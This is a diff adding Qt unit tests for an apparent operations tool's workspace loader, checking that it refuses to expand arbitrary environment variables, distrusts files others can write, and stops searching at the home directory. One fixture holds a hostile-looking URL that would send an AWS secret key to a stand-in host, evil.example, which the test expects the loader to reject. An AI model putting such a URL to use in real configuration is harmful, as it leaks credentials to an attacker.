@@ -8,6 +8,10 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <pwd.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
 using namespace Opsdeck;
 
 namespace {
@@ -197,13 +201,119 @@ private slots:
         QCOMPARE(expandVariables(QStringLiteral("~/x")), QDir::homePath() + QStringLiteral("/x"));
         QCOMPARE(expandVariables(QStringLiteral("a~b")), QStringLiteral("a~b"));
         QCOMPARE(expandVariables(QStringLiteral("$$HOME $HOME")), QStringLiteral("$HOME $HOME"));
-        QCOMPARE(expandVariables(QStringLiteral("${NOPE_NOT_SET_1}x"), &unset),
+        QCOMPARE(expandVariables(QStringLiteral("${OPSDECK_NOPE_NOT_SET_1}x"), &unset),
                  QStringLiteral("x"));
-        QCOMPARE(unset, QStringList{QStringLiteral("NOPE_NOT_SET_1")});
+        QCOMPARE(unset, QStringList{QStringLiteral("OPSDECK_NOPE_NOT_SET_1")});
+        // Only OPSDECK_* and HOME, USER, LOGNAME are read; anything else stays as written.
+        qputenv("AWS_SECRET_ACCESS_KEY", "s3cr3t");
+        QStringList refused;
+        QCOMPARE(
+            expandVariables(QStringLiteral("u=${AWS_SECRET_ACCESS_KEY}"), &unset, {}, &refused),
+            QStringLiteral("u=${AWS_SECRET_ACCESS_KEY}"));
+        QCOMPARE(refused, QStringList{QStringLiteral("AWS_SECRET_ACCESS_KEY")});
+        QCOMPARE(expandVariables(QStringLiteral("${HOME}")), QDir::homePath());
         QCOMPARE(expandPath(QStringLiteral("keys/id"), QStringLiteral("/srv/infra")),
                  QStringLiteral("/srv/infra/keys/id"));
         QCOMPARE(expandPath(QStringLiteral("/abs"), QStringLiteral("/srv/infra")),
                  QStringLiteral("/abs"));
+    }
+
+    void workspaceCannotReadOtherEnvironmentVariables()
+    {
+        // A hostile workspace would carry the operator's tokens to a server it names.
+        qputenv("AWS_SECRET_ACCESS_KEY", "s3cr3t");
+        const WorkspaceLoadResult r = WorkspaceLoader::loadText(
+            "version: 1\nname: x\nenvironments:\n  staging:\n    prometheus:\n"
+            "      url: \"http://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\"\n"
+            "    deploy:\n      path: /srv/app\n      repo: /srv/git/app.git\n"
+            "      restart: \"echo ${APP_PORT}\"\n",
+            QStringLiteral("/ws/opsdeck.yaml"));
+        QVERIFY(!r.ok());
+        bool named = false;
+        for (const Diagnostic &d : r.diagnostics) {
+            QVERIFY2(!d.message.contains(QLatin1String("s3cr3t")), qPrintable(d.toString()));
+            if (d.severity == Diagnostic::Severity::Error && d.line == 6 &&
+                d.message.contains(QLatin1String("${AWS_SECRET_ACCESS_KEY}")))
+                named = true;
+            // In a remote command ${NAME} is the host shell's business: not an error.
+            QVERIFY2(!d.message.contains(QLatin1String("APP_PORT")), qPrintable(d.toString()));
+        }
+        QVERIFY(named);
+    }
+
+    void untrustedWorkspaceIsRefused_data()
+    {
+        QTest::addColumn<QString>("owner");
+        QTest::addColumn<int>("mode");
+        QTest::addColumn<QString>("expected");
+        QTest::newRow("another user's") << u"nobody"_qs << 0644 << u"owned by nobody"_qs;
+        QTest::newRow("group-writable") << QString() << 0664 << u"chmod go-w"_qs;
+        QTest::newRow("world-writable") << QString() << 0646 << u"changed by anyone"_qs;
+    }
+
+    void untrustedWorkspaceIsRefused()
+    {
+        QFETCH(QString, owner);
+        QFETCH(int, mode);
+        QFETCH(QString, expected);
+        if (!owner.isEmpty() && ::geteuid() != 0)
+            QSKIP("giving a file to another user needs root");
+        QTemporaryDir dir;
+        const QString file = dir.filePath(QStringLiteral("opsdeck.yaml"));
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("version: 1\nname: planted\n");
+        f.close();
+        QVERIFY(::chmod(QFile::encodeName(file).constData(), mode_t(mode)) == 0);
+        if (!owner.isEmpty()) {
+            const passwd *pw = ::getpwnam(owner.toLatin1().constData());
+            QVERIFY(pw);
+            QVERIFY(::chown(QFile::encodeName(file).constData(), pw->pw_uid, pw->pw_gid) == 0);
+        }
+        const WorkspaceLoadResult r = WorkspaceLoader::loadFile(file);
+        QVERIFY(!r.ok());
+        QCOMPARE(r.diagnostics.size(), 1);
+        QVERIFY2(r.diagnostics.first().message.contains(expected),
+                 qPrintable(r.diagnostics.first().toString()));
+        QVERIFY(r.diagnostics.first().message.contains(file));
+    }
+
+    void untrustedNamedFileIsRefusedAtItsKey()
+    {
+        QTemporaryDir dir;
+        const QString config = dir.filePath(QStringLiteral("ssh_config"));
+        QFile c(config);
+        QVERIFY(c.open(QIODevice::WriteOnly));
+        c.close();
+        QVERIFY(::chmod(QFile::encodeName(config).constData(), 0666) == 0);
+        const QString file = dir.filePath(QStringLiteral("opsdeck.yaml"));
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("version: 1\nname: x\nssh:\n  config_file: ssh_config\n");
+        f.close();
+        const WorkspaceLoadResult r = WorkspaceLoader::loadFile(file);
+        QVERIFY(!r.ok());
+        QCOMPARE(r.diagnostics.first().line, 4);
+        QVERIFY2(r.diagnostics.first().message.contains(config),
+                 qPrintable(r.diagnostics.first().toString()));
+        QVERIFY(::chmod(QFile::encodeName(config).constData(), 0600) == 0);
+        QVERIFY2(WorkspaceLoader::loadFile(file).ok(), "a file only you can write is trusted");
+    }
+
+    void searchStopsAtHome()
+    {
+        // A planted opsdeck.yaml above the home directory (/home, /tmp, /) is never picked up.
+        QTemporaryDir dir;
+        QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("home/me/project")));
+        QFile planted(dir.filePath(QStringLiteral("home/opsdeck.yaml")));
+        QVERIFY(planted.open(QIODevice::WriteOnly));
+        planted.close();
+        const QByteArray previousHome = qgetenv("HOME");
+        qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("home/me"))));
+        qunsetenv("OPSDECK_WORKSPACE");
+        const QString found = locateWorkspace({}, dir.filePath(QStringLiteral("home/me/project")));
+        qputenv("HOME", previousHome);
+        QCOMPARE(found, QString());
     }
 
     void locatesWorkspaceLikeGit()
